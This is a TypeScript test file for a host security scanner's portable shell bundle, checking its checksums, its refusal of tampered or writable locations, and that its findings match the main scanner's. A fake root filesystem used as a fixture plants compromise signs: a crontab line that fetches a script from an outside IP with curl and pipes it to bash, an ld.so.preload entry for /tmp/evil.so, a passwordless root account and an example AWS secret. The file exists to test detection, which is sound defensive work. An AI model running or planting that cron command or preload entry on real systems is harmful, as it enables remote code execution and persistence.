import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  watch,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { setImmediate as turn } from 'node:timers/promises';
import { crc32, inflateRawSync } from 'node:zlib';
import { hasCode } from '../../base/errors.ts';
import { settingsOf } from '../../base/settings.ts';
import { ownChecks, shippedChecks } from '../checks/load.ts';
import type { Script } from '../running/run-check.ts';
import { scanHost, type HostScan } from '../scanning/scan.ts';
import { hostSettings } from '../settings.ts';
import { openHostFiles } from '../state/host-files.ts';
import { bundleArchive } from './archive.ts';
import { readResult, type HostResult } from './read-result.ts';

const settings = settingsOf(hostSettings);
const shipped = shippedChecks('linux');
const isRoot = process.getuid?.() === 0;

function folderOf(context: TestContext): string {
  // Above it only the folder for temporary files can be written by others.
  const folder = mkdtempSync(join(tmpdir(), 'host-bundle-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  chmodSync(folder, 0o755);
  return folder;
}

/** Resolves to the script that runs all. */
function unpack(folder: string, checks: readonly Script[], own: Partial<typeof settings> = {}): string {
  const input = bundleArchive(checks, 'linux', { version: '0.1.0', settings: { ...settings, ...own } });
  execFileSync('tar', ['-xzf', '-', '-C', folder], { input });
  return join(folder, 'holdfast-scan/holdfast-scan.sh');
}

const NOTHING = { cwd: '/', env: {}, encoding: 'utf8' } as const;

/** Runs it with no environment at all, and reads what it brought. */
async function scanBy(script: string, checks: readonly Script[], ...words: readonly string[]): Promise<HostResult> {
  const { status, stderr } = spawnSync('/bin/bash', [script, ...words], NOTHING);
  assert.equal(status, 0, stderr);
  const path = /^The result is in (.*)$/m.exec(stderr)?.[1] ?? '';
  return await readResult(readFileSync(path), checks, settings);
}

/** A computer with this and that wrong. */
function scratchRoot(folder: string): string {
  const root = join(folder, 'root');
  const file = (path: string, text: string, mode = 0o644): void => {
    mkdirSync(join(root, path, '..'), { recursive: true });
    writeFileSync(join(root, path), text);
    chmodSync(join(root, path), mode);
  };
  file(
    'etc/os-release',
    `ID="rocky"\nID_LIKE='rhel centos'\nVERSION_ID="9.4"  \nPRETTY_NAME="Rocky Linux 9.4 (Blue "Onyx")"\nX\n`,
  );
  file('etc/hostname', 'web-ä1\n');
  file('etc/machine-id', '0123456789abcdef0123456789abcdef\n');
  file('etc/passwd', 'root:x:0:0::/root:/bin/bash\ntoor::0:0::/root:/bin/bash\nada:x:1000:1000::/home/ada:/bin/bash\n');
  file('etc/shadow', 'root:$6$x$y:19000:0:99999:7:::\ntoor::19000::::::\nada:!:19000::::::\n', 0o666);
  file('etc/group', 'root:x:0:\nada:x:1000:\n');
  file('etc/resolv.conf', 'nameserver 10.0.0.2\n');
  file('etc/hosts', '127.0.0.1 localhost\n');
  file('etc/login.defs', 'ENCRYPT_METHOD MD5\nUMASK 022\n');
  file('etc/crontab', '* * * * * root curl -s http://203.0.113.9/x | bash\n');
  file('etc/ld.so.preload', '/tmp/evil.so\n');
  file('tmp/a\n\u001b[31mb', '#!/bin/sh\n', 0o755);
  file('usr/bin/odd', 'x', 0o4755);
  file('srv/open', 'x', 0o666);
  file('home/ada/.env', 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n');
  file('proc/sys/kernel/randomize_va_space', '0\n');
  file('proc/sys/net/ipv4/ip_local_port_range', '40000\t50000\n');
  file('run/systemd/container', 'lxc\n');
  file('sys/class/dmi/id/sys_vendor', 'Amazon EC2\n');
  const tcp = (local: string, state: string, inode: number): string =>
    `   0: ${local} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000  1000        0 ${inode} 1\n`;
  file('proc/net/tcp', `  sl  local_address\n${tcp('0100007F:0016', '0A', 11)}${tcp('0200000A:1F90', '01', 12)}`);
  const tcp6 = [
    '00000000000000000000000000000000',
    '0000000000000000FFFF00000200000A',
    'B80D0120000000000000000001000000',
  ];
  file(
    'proc/net/tcp6',
    `  sl\n${tcp6.map((each, at) => tcp(`${each}:0050`, '0A', 20 + at).replace('00000000:0000', `${each}:0000`)).join('')}`,
  );
  file('proc/net/udp', `  sl\n${tcp('00000000:9C41', '07', 30)}`);
  file('proc/net/packet', 'sk RefCnt Type Proto Iface R Rmem User Inode\n0000 3 3 0003 2 1 0 0 40\n');
  file('proc/stat', 'cpu 1 2\nbtime 1700000000\n');
  const process_ = (
    pid: number,
    name: string,
    words: string,
    exe: string,
    sockets: readonly number[],
    flags = 0,
  ): void => {
    const rest = ['S', 1, pid, pid, 34816, -1, flags, 0, 0, 0, 0, 250, 151, 0, 0, 20, 0, 1, 0, 12_345, 0, 0];
    file(`proc/${pid}/stat`, `${pid} (${name}) ${rest.join(' ')}\n`);
    file(`proc/${pid}/status`, `Name:\tx\nUid:\t1000\t0\t0\t0\n`);
    file(`proc/${pid}/cmdline`, words);
    if (exe !== '') symlinkSync(exe, join(root, `proc/${pid}/exe`));
    symlinkSync('/', join(root, `proc/${pid}/cwd`));
    mkdirSync(join(root, `proc/${pid}/fd`));
    symlinkSync('/dev/null', join(root, `proc/${pid}/fd/0`));
    for (const [at, inode] of sockets.entries())
      symlinkSync(`socket:[${inode}]`, join(root, `proc/${pid}/fd/${at + 3}`));
  };
  process_(7, 'sshd) S 1\n(x', '/usr/sbin/sshd\0-D\0\0', '/usr/sbin/sshd', [11, 20, 30]);
  process_(12, 'kworker', '', '', [], 0x00200000);
  process_(101, 'gone', `x\0\0${'y'.repeat(9000)}\0z`, '/tmp/gone (deleted)', [11, 22, 40]);
  process_(102, 'edge', `${'y'.repeat(8191)}\0z\0`, '/usr/bin/edge', []);
  return root;
}

test('the archive is the same bytes for the same checks, and says the hash of each file', (context) => {
  const chosen = shipped.filter(({ header }) => /^(?:KRN-07|PRC-05)$/.test(header.id));
  const bytes = bundleArchive(chosen, 'linux', { version: '0.1.0', settings });
  assert.ok(bytes.equals(bundleArchive(chosen, 'linux', { version: '0.1.0', settings })));
  const folder = folderOf(context);
  const script = unpack(folder, chosen);
  const inside = join(folder, 'holdfast-scan');
  execFileSync('/usr/bin/sha256sum', ['--quiet', '-c', 'SHA256SUMS'], { cwd: inside });
  assert.deepEqual(
    readdirSync(join(inside, 'checks/linux')).filter((name) => name.endsWith('.sh')),
    ['KRN-07.sh', 'PRC-05.sh'],
  );
  // Where programs are looked for that do not belong there, none of it is one.
  assert.equal(execFileSync('find', [inside, '-type', 'f', '-perm', '/0111'], { encoding: 'utf8' }), '');
  writeFileSync(join(inside, 'checks/linux/KRN-07.sh'), 'detect() { pass; }\n');
  const { status, stderr } = spawnSync('/bin/bash', [script], NOTHING);
  assert.equal(status, 3);
  assert.match(stderr, /is not what the archive was made with/);
});

test('the archive for Windows is a zip with what its checks need, and takes no check of another system', () => {
  const windows = shippedChecks('windows');
  const bytes = bundleArchive(windows, 'windows', { version: '0.1.0', settings });
  assert.ok(bytes.equals(bundleArchive(windows, 'windows', { version: '0.1.0', settings })));
  const files = unzipped(bytes);
  const names = [...files.keys()];
  assert.ok(
    names.every((name) => /^holdfast-scan\/.+\.(?:ps1|tsv|txt)$|\/SHA256SUMS$/.test(name)),
    names.join(),
  );
  for (const name of [
    'holdfast-scan.ps1',
    'native/prelude.ps1',
    'probes/windows/system.ps1',
    'checks.tsv',
    'settings.tsv',
  ]) {
    assert.ok(files.has(`holdfast-scan/${name}`), name);
  }
  const sums = files.get('holdfast-scan/SHA256SUMS')?.toString().trimEnd().split('\n') ?? [];
  assert.equal(sums.length, files.size - 1);
  for (const line of sums) {
    const [sha256, path = ''] = line.split('  ');
    const found = createHash('sha256')
      .update(files.get(`holdfast-scan/${path}`) ?? '')
      .digest('hex');
    assert.equal(found, sha256, path);
  }
  assert.throws(
    () => bundleArchive(shipped, 'windows', { version: '0.1.0', settings }),
    (error) => hasCode(error, 'host_bundle_impossible'),
  );
});

/** By the list at its end, as programs read it; each is held against its checksum. */
function unzipped(zip: Buffer): ReadonlyMap<string, Buffer> {
  const end = zip.length - 22;
  assert.equal(zip.readUInt32LE(end), 0x06054b50);
  let at = zip.readUInt32LE(end + 16);
  return new Map(
    Array.from({ length: zip.readUInt16LE(end + 10) }, (): [string, Buffer] => {
      assert.equal(zip.readUInt32LE(at), 0x02014b50);
      const [size, length, local] = [zip.readUInt32LE(at + 20), zip.readUInt16LE(at + 28), zip.readUInt32LE(at + 42)];
      const name = zip.toString('utf8', at + 46, at + 46 + length);
      assert.equal(zip.readUInt32LE(local), 0x04034b50);
      assert.ok(zip.subarray(local + 4, local + 30).equals(zip.subarray(at + 6, at + 32)), 'both headers say the same');
      const from = local + 30 + length;
      const bytes = inflateRawSync(zip.subarray(from, from + size));
      assert.deepEqual([crc32(bytes), bytes.length], [zip.readUInt32LE(at + 16), zip.readUInt32LE(at + 24)]);
      at += 46 + length;
      return [name, bytes];
    }),
  );
}

test('it finds without Node what a scan finds, down to the words, whoever runs it', async (context) => {
  const folder = folderOf(context);
  const root = scratchRoot(folder);
  const wanted = /^(?:ACC-0[1-5]|KRN-07|FIL-0[1-3]|BKD-0[136]|NET-01|PRC-0[14]|CRD-01|SYS-01|SSH-01|SQL-01|FW-01)$/;
  const checks = shipped.filter(({ header }) => wanted.test(header.id));
  const script = unpack(folder, checks);
  const result = await scanBy(script, checks, '--root', root);
  const scan = await scanHost(checks, { root, files: openHostFiles(join(folder, 'state')), settings });
  assert.deepEqual(result.scan.system, scan.system);
  assert.equal(result.scan.system.hostname, 'web-ä1');
  assert.equal(result.scan.system.cloud, 'aws');
  assert.deepEqual(said(result.scan), said(scan));
  const wrong = result.scan.checks.filter(({ verdicts }) => verdicts.some(({ verdict }) => verdict === 'fail'));
  assert.ok(wrong.length > 6, wrong.map((each) => each.script.header.id).join());
  assert.deepEqual([result.otherChecks, result.unknownChecks], [[], []]);
  assert.deepEqual(result.facts.dns.items, [{ keyword: 'nameserver', value: '10.0.0.2' }]);
  assert.deepEqual(
    result.facts.listeners.items.map((each) => [
      each.protocol,
      each.address,
      each.port,
      each.user,
      each.pid,
      each.isPassing,
    ]),
    [
      ['tcp', '127.0.0.1', 22, 'root', 101, false],
      ['tcp', '127.0.0.1', 22, 'root', 7, false],
      ['tcp6', '::', 80, 'root', 7, false],
      ['tcp6', '::ffff:10.0.0.2', 80, 'ada', null, false],
      ['tcp6', '2001:db8::1', 80, 'root', 101, false],
      ['udp', '0.0.0.0', 40_001, 'root', 7, true],
    ],
  );
});

/** What was said of secrets is told by prints, which are those of one look. */
function said({ checks }: HostScan) {
  return checks.map(({ script, outcome, verdicts }) => ({
    check: script.header.id,
    outcome,
    verdicts: JSON.stringify(verdicts).replaceAll(/\([0-9a-f]{12}\)/g, '(print)'),
  }));
}

test('the probes of processes and sockets write the same bytes as those of a scan', async (context) => {
  const folder = folderOf(context);
  const root = scratchRoot(folder);
  const body = 'detect() { pass "processes:$(base64 -w0 <"$FACTS/processes")" "$(base64 -w0 <"$FACTS/sockets")"; }';
  const checks = ownOf(folder, 'OWN-01', body, '# facts: processes sockets');
  const { scan } = await scanBy(unpack(folder, checks), checks, '--root', root);
  const other = await scanHost(checks, { root, files: openHostFiles(join(folder, 'state')), settings });
  assert.deepEqual(said(scan), said(other));
  for (const { why } of scan.probes) assert.equal(why, null);
  assert.equal(scan.probes.length, 2);
});

function ownOf(folder: string, id: string, body: string, header = ''): readonly Script[] {
  const own = join(folder, 'own');
  mkdirSync(own, { recursive: true, mode: 0o755 });
  const lines = [
    'id: ' + id,
    'title: T',
    'severity: high',
    'rationale: R',
    'needs: nothing',
    'fix: M',
    'remedy: Mend it.',
  ];
  writeFileSync(join(own, `${id}.sh`), `${lines.map((line) => `# ${line}\n`).join('')}${header}\n\n${body}\n`, {
    mode: 0o644,
  });
  return ownChecks(own, shipped);
}

test(
  'somebody without rights is told what only root can look at',
  { skip: !isRoot && 'needs root to become somebody else' },
  async (context) => {
    const folder = folderOf(context);
    const checks = shipped.filter(({ header }) => ['KRN-07', 'ACC-01', 'PRC-01'].includes(header.id));
    const script = unpack(folder, checks);
    const to = join(folder, 'to');
    mkdirSync(to, { mode: 0o755 });
    chownSync(to, 65_534, 65_534);
    const drop = ['--reuid', '65534', '--regid', '65534', '--clear-groups', '/bin/bash', script, '--to', to];
    const { status, stderr } = spawnSync('/usr/bin/setpriv', drop, { ...NOTHING, env: { PATH: '/nonexistent' } });
    assert.equal(status, 0, stderr);
    assert.match(stderr, /Not as root/);
    const [name = ''] = readdirSync(to);
    const { scan } = await readResult(readFileSync(join(to, name)), checks, settings);
    assert.equal(scan.system.isRoot, false);
    const own = scan.checks.find((each) => each.script.header.id === 'PRC-01');
    assert.deepEqual(own?.verdicts.at(-1)?.verdict, 'unknown');
  },
);

test('it is refused where others could change it or its result, and replaces no file', (context) => {
  const folder = folderOf(context);
  const checks = shipped.filter(({ header }) => header.id === 'KRN-07');
  const script = unpack(folder, checks);
  const open = join(folder, 'open');
  mkdirSync(open);
  chmodSync(open, 0o777);
  const into = spawnSync('/bin/bash', [script, '--to', open], NOTHING);
  assert.equal(into.status, 3);
  assert.match(into.stderr, /open can be written by others/);
  assert.deepEqual(readdirSync(open), []);
  const from = spawnSync('/bin/bash', [unpack(open, checks)], NOTHING);
  assert.equal(from.status, 3);
  assert.match(from.stderr, /others could change what is run here/);
  if (!isRoot) return;
  // Whoever unpacked it could change it up to the moment when sudo runs it.
  chownSync(join(folder, 'holdfast-scan'), 65_534, 65_534);
  const ofAnother = spawnSync('/bin/bash', [script], NOTHING);
  assert.equal(ofAnother.status, 3);
  assert.match(ofAnother.stderr, /belongs to user 65534/);
});

test('a check that is late or breaks off is told as in a scan, with all that it started gone', async (context) => {
  const folder = folderOf(context);
  ownOf(folder, 'OWN-01', 'detect() { fail x y; sleep 4711; pass; }', '# timeout: 1 s');
  ownOf(folder, 'OWN-02', 'detect() { pass; exit 1; }');
  ownOf(folder, 'OWN-03', 'detect() { sleep 4712 & pass; }');
  const checks = ownOf(folder, 'OWN-04', 'detect() { :; }', '# applies: command nothing-of-the-kind');
  const { scan } = await scanBy(unpack(folder, checks), checks);
  const other = await scanHost(checks, { root: '', files: openHostFiles(join(folder, 'state')), settings });
  assert.deepEqual(said(scan), said(other));
  assert.deepEqual(
    scan.checks.map(({ outcome }) => outcome),
    ['timed_out', 'broke_off', 'done', 'not_started'],
  );
  await gone(/^sleep\u0000471[12]\0$/);
});

test('a walk that is late is told as late, whatever part of a second it may take', async (context) => {
  const folder = folderOf(context);
  const checks = ownOf(folder, 'OWN-01', 'detect() { pass; }', '# facts: files/suid');
  const script = unpack(folder, checks, { hostWalkTimeoutMs: 1500 });
  assert.match(readFileSync(join(script, '../settings.tsv'), 'utf8'), /^walkTimeoutS\t2$/m);
  // In the place of the walk, with its sum.
  const probe = join(script, '../probes/linux/files.sh');
  writeFileSync(probe, 'sleep 4714\n');
  const sums = join(script, '../SHA256SUMS');
  const sum = createHash('sha256').update('sleep 4714\n').digest('hex');
  const lines = readFileSync(sums, 'utf8').replace(/^[0-9a-f]{64}(?= {2}probes\/linux\/files\.sh$)/m, sum);
  writeFileSync(sums, lines);
  const { scan } = await scanBy(script, checks);
  assert.match(scan.probes.find((each) => each.probe === 'files')?.why ?? '', /^it was not done after/);
});

test('a scan that is ended midway leaves no result, no folder and nothing that runs', async (context) => {
  const folder = folderOf(context);
  const mark = join(folder, 'mark');
  const checks = ownOf(folder, 'OWN-01', `detect() { echo "$WORK" >'${mark}'; sleep 4713; }`, '# timeout: 100 s');
  const script = unpack(folder, checks);
  const to = join(folder, 'to');
  mkdirSync(to, { mode: 0o755 });
  const child = spawn('/bin/bash', [script, '--to', to], { ...NOTHING, stdio: 'ignore' });
  const exited = once(child, 'exit');
  const watched = watch(folder);
  while (!existsSync(mark) || readFileSync(mark, 'utf8') === '') await once(watched, 'change');
  watched.close();
  const work = readFileSync(mark, 'utf8').trim();
  child.kill('SIGTERM');
  await exited;
  assert.deepEqual(readdirSync(to), []);
  assert.equal(existsSync(join(work, '../..')), false);
  await gone(/^sleep\u00004713\0$/);
});

/** Resolves once no process has such a command line: one that was ended on another processor is there a moment longer. */
async function gone(wanted: RegExp): Promise<void> {
  const isThere = (pid: string): boolean => {
    try {
      return wanted.test(readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
    } catch {
      return false;
    }
  };
  while (readdirSync('/proc').some((name) => /^\d+$/.test(name) && isThere(name))) await turn();
}
